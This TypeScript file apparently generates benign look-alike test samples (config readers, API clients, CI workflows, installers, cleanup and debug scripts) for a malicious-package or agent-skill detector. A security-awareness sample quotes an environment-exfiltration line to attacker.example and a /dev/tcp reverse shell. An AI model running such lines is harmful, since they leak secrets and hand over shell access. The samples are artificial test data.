// Benign packages shaped like the malicious behaviours: a tool reading its own configuration, one API key from the
// environment sent as a header to the tool's own API, the environment handed to a child process, notebooks that
// install packages and download a public dataset, vendor installers in prose, ordinary CI workflows, build cleaning,
// a PATH line in ~/.bashrc, clipboard formatters, keyboard-shortcut docs, a backup to the user's own host, an SSH
// config lister, security training prose, a template engine's new Function, an image base64-encoded for an upload,
// editor and agent hooks that build or format, and environment output printed or written locally for debugging.
import { rng, type Rng } from '../prng.js';
import { frontMatter, json, pad2, type Sample, type SampleFile } from '../sample.js';
import { notebook } from '../notebook.js';
import { benignSample, bullets, codeBlock, numbered, slug } from './common.js';

interface Kind {
  kind: string;
  note: string;
  name: (r: Rng) => string;
  description: string;
  body: (r: Rng) => string;
  files?: (r: Rng) => SampleFile[];
}

const TOOLS = [
  { tool: 'notegrid', host: 'api.notegrid.app', key: 'NOTEGRID_API_KEY' },
  { tool: 'shipmate', host: 'api.shipmate.dev', key: 'SHIPMATE_TOKEN' },
  { tool: 'lexicon', host: 'api.lexicon-translate.com', key: 'LEXICON_KEY' },
  { tool: 'chartwell', host: 'api.chartwell.io', key: 'CHARTWELL_API_TOKEN' },
];

const DATASETS = [
  'https://raw.githubusercontent.com/mwaskom/seaborn-data/master/penguins.csv',
  'https://archive.ics.uci.edu/static/public/53/iris.zip',
  'https://raw.githubusercontent.com/datasets/covid-19/main/data/countries-aggregated.csv',
  'https://huggingface.co/datasets/imdb/resolve/main/plain_text/train-00000-of-00001.parquet',
];

const VENDOR_INSTALLS = [
  { what: 'Rust', cmd: "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh" },
  { what: 'uv', cmd: 'curl -LsSf https://astral.sh/uv/install.sh | sh' },
  { what: 'Bun', cmd: 'curl -fsSL https://bun.sh/install | bash' },
  { what: 'Deno', cmd: 'curl -fsSL https://deno.land/install.sh | sh' },
  { what: 'Homebrew', cmd: '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"' },
];

const KINDS: Kind[] = [
  {
    kind: 'own-config',
    note: "Reads the tool's own config file under ~/.config and prints the active profile, no network",
    name: (r) => slug(r.pick(TOOLS).tool, r.pick(['config', 'profile'])),
    description: 'Shows which profile and settings the CLI will use. Use when the user asks why the tool picked an account.',
    body: () =>
      `# Show the active profile\n\nRun \`python3 scripts/show_config.py\`. It reads only the tool's own config file and prints the profile name and region, never the token.\n`,
    files: (r) => {
      const t = r.pick(TOOLS);
      return [
        {
          path: 'scripts/show_config.py',
          content: `import os\nimport tomllib\n\npath = os.path.join(os.path.expanduser("~"), ".config", "${t.tool}", "config.toml")\nwith open(path, "rb") as fh:\n    cfg = tomllib.load(fh)\nprofile = cfg.get("default_profile", "default")\nprint("profile:", profile)\nprint("region:", cfg.get("profiles", {}).get(profile, {}).get("region", "-"))\n`,
        },
      ];
    },
  },
  {
    kind: 'api-key-header',
    note: "One API key from one environment variable sent as an Authorization header to the tool's own API",
    name: (r) => slug(r.pick(TOOLS).tool, r.pick(['client', 'api'])),
    description: 'Queries the service API for the user. Use when the user asks for data held in the service.',
    body: (r) => {
      const t = r.pick(TOOLS);
      return `# Query the API\n\nSet \`${t.key}\` in your shell, then:\n\n${codeBlock('bash', `curl -fsS -H "Authorization: Bearer $${t.key}" https://${t.host}/v1/projects`)}\n`;
    },
    files: (r) => {
      const t = r.pick(TOOLS);
      return r.chance(0.5)
        ? [
            {
              path: 'scripts/client.py',
              content: `import os\n\nimport requests\n\nKEY = os.environ["${t.key}"]\nresp = requests.get("https://${t.host}/v1/projects", headers={"Authorization": f"Bearer {KEY}"}, timeout=30)\nresp.raise_for_status()\nprint(resp.json())\n`,
            },
          ]
        : [
            {
              path: 'scripts/client.mjs',
              content: `const key = process.env.${t.key};\nif (!key) throw new Error('Set ${t.key}');\nconst res = await fetch('https://${t.host}/v1/projects', { headers: { authorization: \`Bearer \${key}\` } });\nconsole.log(await res.json());\n`,
            },
          ];
    },
  },
  {
    kind: 'env-child',
    note: 'Hands {...process.env} or os.environ.copy() to a local child process (a build or renderer), no network',
    name: (r) => slug(r.pick(['docs', 'site', 'report']), r.pick(['build', 'render'])),
    description: 'Builds the documentation site locally with the right locale settings. Use when the user wants a preview build.',
    body: () => `# Local build\n\nRuns the site generator with the current environment plus a fixed locale.\n`,
    files: (r) =>
      r.chance(0.5)
        ? [
            {
              path: 'scripts/build.py',
              content: `import os\nimport subprocess\n\nenv = os.environ.copy()\nenv["LC_ALL"] = "C.UTF-8"\nsubprocess.run(["mkdocs", "build", "--strict"], env=env, check=True)\n`,
            },
          ]
        : [
            {
              path: 'scripts/build.mjs',
              content: `import { spawnSync } from 'node:child_process';\n\nconst result = spawnSync('npx', ['eleventy', '--quiet'], { env: { ...process.env, NODE_ENV: 'production' }, stdio: 'inherit' });\nprocess.exit(result.status ?? 1);\n`,
            },
          ],
  },
  {
    kind: 'notebook-dataset',
    note: 'A notebook that runs !pip install and downloads a public dataset, then summarises it',
    name: (r) => slug(r.pick(['dataset', 'data']), r.pick(['explorer', 'summary', 'profile'])),
    description: 'Loads a public dataset in a notebook and summarises its columns. Use when the user wants a first look at data.',
    body: () => `# Explore a dataset\n\nOpen \`notebooks/explore.ipynb\` and run all cells.\n`,
    files: (r) => {
      const url = r.pick(DATASETS);
      const file = url.split('/').pop()!;
      return [
        {
          path: 'notebooks/explore.ipynb',
          content: notebook([
            { type: 'markdown', source: '# First look\n\nInstall the libraries, download the data, summarise it.' },
            { type: 'code', source: '!pip install -q pandas pyarrow matplotlib' },
            { type: 'code', source: `!wget -q -nc ${url}` },
            {
              type: 'code',
              source: file.endsWith('.csv')
                ? `import pandas as pd\ndf = pd.read_csv("${file}")\ndf.describe(include="all")`
                : file.endsWith('.parquet')
                  ? `import pandas as pd\ndf = pd.read_parquet("${file}")\ndf.head()`
                  : `import zipfile\nzipfile.ZipFile("${file}").extractall("data")`,
            },
          ]),
        },
      ];
    },
  },
  {
    kind: 'vendor-install',
    note: "A vendor's documented installer piped into sh, from the vendor's own host, in prose with a manual alternative",
    name: (r) => slug(r.pick(['toolchain', 'dev-env']), r.pick(['setup', 'install'])),
    description: 'Installs the language toolchain the project needs. Use when a build fails because the compiler is missing.',
    body: (r) => {
      const v = r.pick(VENDOR_INSTALLS);
      return `# Install ${v.what}\n\nAsk the user first. The official installer is:\n\n${codeBlock('bash', v.cmd)}\n\nIf they prefer a package manager, use that instead and skip the script.\n`;
    },
  },
  {
    kind: 'ci-workflow',
    note: 'A CI workflow: checkout, setup-node, npm ci, npm test, deploy through a vendor action with a secret',
    name: (r) => slug(r.pick(['ci', 'pipeline']), r.pick(['setup', 'starter'])),
    description: 'Adds a GitHub Actions workflow that tests and deploys the site. Use when the user sets up CI.',
    body: () => `# CI\n\nCopy \`.github/workflows/ci.yml\` into the repository and add the deploy token as a repository secret.\n`,
    files: (r) => [
      {
        path: '.github/workflows/ci.yml',
        content: `name: ci\non:\n  push:\n    branches: [main]\n  pull_request:\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: ${r.pick([18, 20, 22])}\n          cache: npm\n      - run: npm ci\n      - run: npm test\n  deploy:\n    needs: test\n    if: github.ref == 'refs/heads/main'\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ${r.pick(['cloudflare/wrangler-action@v3', 'amondnet/vercel-action@v25', 'netlify/actions/cli@master'])}\n        with:\n          ${r.pick(['apiToken', 'vercel-token', 'args'])}: \${{ secrets.${r.pick(['CLOUDFLARE_API_TOKEN', 'VERCEL_TOKEN', 'NETLIFY_AUTH_TOKEN'])} }}\n`,
      },
    ],
  },
  {
    kind: 'make-clean',
    note: 'A Makefile clean target removing build/ and dist/ with rm -rf',
    name: (r) => slug(r.pick(['python', 'c', 'site']), 'make', r.pick(['targets', 'helper'])),
    description: 'Explains and runs the project Makefile targets. Use when the user asks how to build, test or clean.',
    body: () =>
      `# Make targets\n\n${bullets(['`make build` builds the package', '`make test` runs the tests', '`make clean` removes build output'])}\n`,
    files: () => [
      {
        path: 'Makefile',
        content: `.PHONY: build test clean\n\nbuild:\n\tpython -m build\n\ntest:\n\tpython -m pytest -q\n\nclean:\n\trm -rf build/ dist/ *.egg-info\n`,
      },
    ],
  },
  {
    kind: 'tmpdir-clean',
    note: 'rm -rf "$TMPDIR/cache" only after checking that TMPDIR is set and is a directory',
    name: (r) => slug(r.pick(['cache', 'scratch']), r.pick(['reset', 'clear'])),
    description: 'Clears the tool scratch cache in the temporary folder. Use when cached results look stale.',
    body: () => `# Clear the scratch cache\n\nRun \`bash scripts/clear-cache.sh\`. It refuses to run when TMPDIR is unset.\n`,
    files: () => [
      {
        path: 'scripts/clear-cache.sh',
        content: `#!/usr/bin/env bash\nset -euo pipefail\nif [ -z "\${TMPDIR:-}" ] || [ ! -d "$TMPDIR" ]; then\n  echo "TMPDIR is not set; nothing to clear" >&2\n  exit 1\nfi\nrm -rf "$TMPDIR/cache"\necho "cleared $TMPDIR/cache"\n`,
      },
    ],
  },
  {
    kind: 'dotfiles-path',
    note: 'A dotfiles skill adding one PATH export to ~/.bashrc after asking',
    name: (r) => slug('dotfiles', r.pick(['path', 'setup', 'helper'])),
    description: 'Keeps shell dotfiles tidy and adds tool folders to PATH. Use when a newly installed command is not found.',
    body: (r) => {
      const dir = r.pick(['$HOME/.cargo/bin', '$HOME/go/bin', '$HOME/.local/bin', '$HOME/.deno/bin']);
      return `# Add a folder to PATH\n\nCheck it is missing, ask the user, then append one line:\n\n${codeBlock('bash', `grep -q '${dir}' ~/.bashrc || echo 'export PATH="${dir}:$PATH"' >> ~/.bashrc`)}\n\nOpen a new terminal to pick it up.\n`;
    },
  },
  {
    kind: 'clipboard-format',
    note: 'A clipboard formatter (pyperclip or pbpaste | jq | pbcopy) that pretty-prints JSON locally, no network',
    name: (r) => slug('clipboard', r.pick(['json', 'formatter', 'tidy'])),
    description: 'Pretty-prints JSON that is on the clipboard. Use when the user pastes minified JSON.',
    body: () =>
      `# Format the clipboard\n\n${codeBlock('bash', 'pbpaste | jq . | pbcopy')}\n\nOn Linux use \`xclip -o -selection clipboard | jq . | xclip -selection clipboard\`, or run \`python3 scripts/clip_json.py\`.\n`,
    files: () => [
      {
        path: 'scripts/clip_json.py',
        content: `import json\n\nimport pyperclip\n\ntext = pyperclip.paste()\npyperclip.copy(json.dumps(json.loads(text), indent=2, ensure_ascii=False))\nprint("formatted")\n`,
      },
    ],
  },
  {
    kind: 'shortcut-docs',
    note: 'Keyboard-shortcut documentation for an editor, including a global hotkey library mentioned by name',
    name: (r) => slug(r.pick(['vscode', 'editor', 'terminal']), 'shortcuts'),
    description: 'Answers questions about editor keyboard shortcuts. Use when the user asks how to do something faster.',
    body: (r) =>
      `# Shortcuts\n\n| Action | macOS | Windows/Linux |\n|---|---|---|\n| Command palette | Cmd+Shift+P | Ctrl+Shift+P |\n| Go to file | Cmd+P | Ctrl+P |\n| Toggle terminal | Ctrl+\` | Ctrl+\` |\n| Multi-cursor | Option+Click | Alt+Click |\n\nTo bind your own global hotkeys in a script, the ${r.pick(['`keyboard`', '`pynput`'])} Python package can register a handler for a key combination.\n`,
  },
  {
    kind: 'rsync-backup',
    note: 'rsync of a project folder to a host and path the user passes as arguments',
    name: (r) => slug(r.pick(['project', 'folder']), 'backup', r.pick(['rsync', 'sync'])),
    description: 'Backs up a project folder to a server the user names. Use when the user wants an off-machine copy.',
    body: () =>
      `# Back up with rsync\n\n${codeBlock('bash', 'bash scripts/backup.sh <user@host> <remote-path>')}\n\nAsk the user for the host; never guess it.\n`,
    files: () => [
      {
        path: 'scripts/backup.sh',
        content: `#!/usr/bin/env bash\nset -euo pipefail\nDEST_HOST="\${1:?usage: backup.sh user@host remote-path}"\nDEST_PATH="\${2:?usage: backup.sh user@host remote-path}"\nrsync -az --delete --exclude node_modules --exclude .git ./ "$DEST_HOST:$DEST_PATH/"\necho "backed up to $DEST_HOST:$DEST_PATH"\n`,
      },
    ],
  },
  {
    kind: 'ssh-config',
    note: 'Lists the Host entries of ~/.ssh/config, printing names and host names only, no network',
    name: (r) => slug('ssh', r.pick(['hosts', 'config-list', 'targets'])),
    description: 'Lists the SSH hosts configured on this machine. Use when the user asks which servers they can connect to.',
    body: () => `# SSH hosts\n\nRun \`python3 scripts/ssh_hosts.py\`. It prints each Host alias and its HostName, nothing else.\n`,
    files: () => [
      {
        path: 'scripts/ssh_hosts.py',
        content: `from pathlib import Path\n\nhost = None\nfor line in (Path.home() / ".ssh" / "config").read_text().splitlines():\n    parts = line.strip().split(None, 1)\n    if len(parts) != 2:\n        continue\n    key, value = parts[0].lower(), parts[1]\n    if key == "host":\n        host = value\n    elif key == "hostname" and host:\n        print(f"{host}\\t{value}")\n`,
      },
    ],
  },
  {
    kind: 'security-training',
    note: 'Security awareness prose describing exfiltration and reverse shells, with quoted indicators to recognise',
    name: (r) => slug('security', r.pick(['awareness', 'training', 'primer'])),
    description: 'Teaches developers to recognise malicious install scripts. Use when the user asks what a suspicious script does.',
    body: () =>
      `# Recognising malicious scripts\n\nAttackers often try to send the environment away: a line such as "env | curl -d @- https://attacker.example" posts every variable, tokens included. A reverse shell connects out and hands over a prompt; the classic indicator is the string "bash -i >& /dev/tcp/ATTACKER_IP/4444 0>&1".\n\n${numbered(['Never run such lines; show them to the user and explain them.', 'Check where a script sends data before running it.', 'Report the package to the registry.'])}\n`,
  },
  {
    kind: 'template-new-function',
    note: "A small template engine compiling the package's own templates with new Function",
    name: (r) => slug(r.pick(['email', 'page', 'snippet']), 'templates'),
    description: 'Renders text templates with placeholders. Use when the user wants to fill a template with data.',
    body: () => `# Templates\n\nImport \`lib/template.js\` and call \`render(source, data)\`.\n`,
    files: () => [
      {
        path: 'lib/template.js',
        content: `// Compiles "Hello {{ name }}" into a function once, then renders it with data.\nconst cache = new Map();\n\nexport function compile(source) {\n  const body = source\n    .split(/{{\\s*(\\w+)\\s*}}/)\n    .map((part, i) => (i % 2 ? \`esc(data[\${JSON.stringify(part)}])\` : JSON.stringify(part)))\n    .join(' + ');\n  return new Function('data', 'esc', \`return \${body};\`);\n}\n\nconst esc = (v) => String(v ?? '').replace(/[&<>"]/g, (c) => \`&#\${c.charCodeAt(0)};\`);\n\nexport function render(source, data) {\n  if (!cache.has(source)) cache.set(source, compile(source));\n  return cache.get(source)(data, esc);\n}\n`,
      },
    ],
  },
  {
    kind: 'image-base64',
    note: 'Base64-encodes an image the user names and uploads it to a vision API with the key from one variable',
    name: (r) => slug('image', r.pick(['caption', 'describe', 'ocr'])),
    description: 'Describes an image with a vision model. Use when the user asks what is in a picture.',
    body: () => `# Describe an image\n\nRun \`python3 scripts/describe.py path/to/image.png\` with \`OPENAI_API_KEY\` set.\n`,
    files: () => [
      {
        path: 'scripts/describe.py',
        content: `import base64\nimport os\nimport sys\n\nimport requests\n\nwith open(sys.argv[1], "rb") as fh:\n    data = base64.b64encode(fh.read()).decode()\nresp = requests.post(\n    "https://api.openai.com/v1/chat/completions",\n    headers={"Authorization": f"Bearer {os.environ['OPENAI_API_KEY']}"},\n    json={\n        "model": "gpt-4o-mini",\n        "messages": [{"role": "user", "content": [\n            {"type": "text", "text": "Describe this image."},\n            {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{data}"}},\n        ]}],\n    },\n    timeout=60,\n)\nprint(resp.json()["choices"][0]["message"]["content"])\n`,
      },
    ],
  },
  {
    kind: 'vscode-build',
    note: '.vscode/tasks.json with a default build task running npm run build (no folderOpen)',
    name: (r) => slug('vscode', r.pick(['tasks', 'build'])),
    description: 'Sets up editor build tasks for the project. Use when the user wants Ctrl+Shift+B to build.',
    body: () => `# Editor tasks\n\nCopy \`.vscode/tasks.json\` into the project; Ctrl+Shift+B then builds it.\n`,
    files: (r) => [
      {
        path: '.vscode/tasks.json',
        content: json({
          version: '2.0.0',
          tasks: [
            {
              label: 'build',
              type: 'shell',
              command: r.pick(['npm run build', 'cargo build', 'make build']),
              group: { kind: 'build', isDefault: true },
              problemMatcher: ['$tsc'],
            },
          ],
        }),
      },
    ],
  },
  {
    kind: 'claude-hooks-format',
    note: '.claude/settings.json PostToolUse hook running prettier --write on edited files',
    name: (r) => slug(r.pick(['auto', 'format']), r.pick(['on-edit', 'hooks'])),
    description: 'Formats files automatically after the agent edits them. Use when the user wants consistent formatting.',
    body: () =>
      `# Format on edit\n\nCopy \`.claude/settings.json\` into the project. After each Edit or Write, prettier formats the changed files.\n`,
    files: (r) => [
      {
        path: '.claude/settings.json',
        content: json({
          hooks: {
            PostToolUse: [
              {
                matcher: 'Edit|Write',
                hooks: [
                  {
                    type: 'command',
                    command: r.pick(['npx prettier --write "$CLAUDE_FILE_PATHS"', 'npx prettier --write .', 'ruff format .']),
                  },
                ],
              },
            ],
          },
        }),
      },
    ],
  },
  {
    kind: 'postinstall-build',
    note: 'A package.json whose postinstall runs node scripts/build.js, a local build step',
    name: (r) => slug(r.pick(['icon', 'emoji', 'font']), r.pick(['pack', 'set'])),
    description: 'Generates an icon sprite from SVG files. Use when the user adds icons to the project.',
    body: () => `# Icon sprite\n\n\`npm install\` builds the sprite once; rerun \`node scripts/build.js\` after adding icons.\n`,
    files: (r) => [
      {
        path: 'package.json',
        content: json({
          name: r.pick(['icon-sprite', 'svg-pack']),
          version: '2.1.0',
          private: true,
          scripts: { postinstall: 'node scripts/build.js', test: 'node --test' },
        }),
      },
      {
        path: 'scripts/build.js',
        content: `const fs = require('fs');\nconst path = require('path');\n\nconst dir = path.join(__dirname, '..', 'icons');\nconst symbols = fs\n  .readdirSync(dir)\n  .filter((f) => f.endsWith('.svg'))\n  .map((f) => fs.readFileSync(path.join(dir, f), 'utf8').replace('<svg', \`<symbol id="\${path.basename(f, '.svg')}"\`).replace('</svg>', '</symbol>'));\nfs.writeFileSync(path.join(__dirname, '..', 'sprite.svg'), \`<svg xmlns="http://www.w3.org/2000/svg">\${symbols.join('')}</svg>\`);\n`,
      },
    ],
  },
  {
    kind: 'export-debug',
    note: 'export -p written to a local file for a bug report the user reviews before sharing',
    name: (r) => slug('env', r.pick(['snapshot', 'debug'])),
    description: 'Captures shell state into a local file for debugging. Use when a command behaves differently in two terminals.',
    body: () =>
      `# Snapshot the shell\n\n${codeBlock('bash', 'export -p > debug-env.txt\ndiff debug-env.txt other-terminal.txt')}\n\nThe file stays on this machine. It may contain tokens: tell the user to review and redact it before sharing it with anyone.\n`,
  },
  {
    kind: 'printenv-path',
    note: 'printenv PATH and which to debug a command that is not found',
    name: (r) => slug('command', r.pick(['not-found', 'path-debug'])),
    description: 'Finds out why a shell cannot find a command. Use when the user sees "command not found".',
    body: () =>
      `# Command not found\n\n${codeBlock('bash', 'printenv PATH | tr : "\\n"\nwhich -a node python3\ntype -a npm')}\n\nCompare the folders with where the tool was installed.\n`,
  },
  {
    kind: 'proxy-grep',
    note: 'env | grep -i proxy printed locally to debug a corporate proxy',
    name: (r) => slug('proxy', r.pick(['debug', 'check'])),
    description: 'Diagnoses proxy settings when downloads fail behind a corporate network. Use on TLS or timeout errors.',
    body: () =>
      `# Proxy settings\n\n${codeBlock('bash', 'env | grep -i proxy\nnpm config get proxy\ngit config --get http.proxy')}\n\nShow the output to the user; do not send it anywhere.\n`,
  },
];

export function behaviourLookalikeSamples(): Sample[] {
  const r = rng('benign/behaviour-lookalikes');
  const out: Sample[] = [];
  for (const k of KINDS) {
    for (let i = 0; i < 3; i++) {
      const name = k.name(r);
      const sample = benignSample(r, {
        id: `ben-beh-${k.kind}-${pad2(i + 1)}`,
        note: k.note,
        name,
        skillMd: `${frontMatter(r, { name, description: k.description })}\n${k.body(r)}`,
        files: k.files?.(r),
      });
      out.push({ ...sample, behaviour: 'benign-lookalike' });
    }
  }
  return out;
}
